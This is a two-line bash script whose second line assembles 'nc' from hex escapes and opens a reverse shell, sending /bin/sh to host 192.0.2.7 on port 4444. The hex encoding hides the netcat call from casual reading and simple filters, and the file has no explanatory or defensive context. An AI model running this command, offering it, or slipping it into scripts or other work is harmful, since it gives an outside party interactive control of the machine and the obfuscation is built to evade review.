#!/bin/bash
$(printf '\x6e\x63') -e /bin/sh 192.0.2.7 4444
